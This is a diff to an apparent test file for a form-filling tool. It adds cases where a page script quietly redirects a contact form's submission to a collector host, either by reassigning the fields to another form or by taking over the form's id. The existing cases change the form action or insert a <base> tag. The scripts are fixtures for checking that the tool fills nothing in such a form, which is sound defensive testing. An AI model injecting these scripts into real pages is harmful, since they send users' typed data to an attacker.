@@ -2,14 +2,18 @@ import { TEST_PROFILE } from '../support/factories.ts';
 import { expect, fillWrittenPage, seed, test } from './harness.ts';
 
 // A form that posts home when it is read, and points elsewhere once the fill begins: on the first
-// field's focus the page sets a new action, or adds a <base> that sends its relative action to
-// another host. Nothing may stay in it, and the supporter is told nothing was filled.
+// field's focus the page sets a new action, adds a <base> that sends its relative action to
+// another host, or hands the fields to another form that posts elsewhere. Nothing may stay in it, and the supporter is told nothing was filled.
 
 const SCRIPTS: Record<string, string> = {
   'new-action': "document.querySelector('form').action = 'https://collect.example.net/steal';",
   'base-element': "const base = document.createElement('base'); base.href = 'https://collect.example.net/'; document.head.append(base);",
   // Only after the last field: everything was written by then.
   'on-the-message': '',
+  // The action stays; the fields are handed to another form that posts elsewhere.
+  'fields-given-to-another-form': "document.body.insertAdjacentHTML('beforeend', '<form id=\"away\" action=\"https://collect.example.net/steal\" method=\"post\"></form>'); for (const el of document.querySelectorAll('input, textarea')) el.setAttribute('form', 'away');",
+  // A form with the fields' form= id, inserted before the one they named.
+  'form-id-taken-earlier': "for (const el of document.querySelectorAll('input, textarea')) el.setAttribute('form', 'home'); document.querySelector('form').id = 'home'; document.body.insertAdjacentHTML('afterbegin', '<form id=\"home\" action=\"https://collect.example.net/steal\" method=\"post\"></form>');",
 };
 
 const page = (id: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Contact</title></head><body><main>
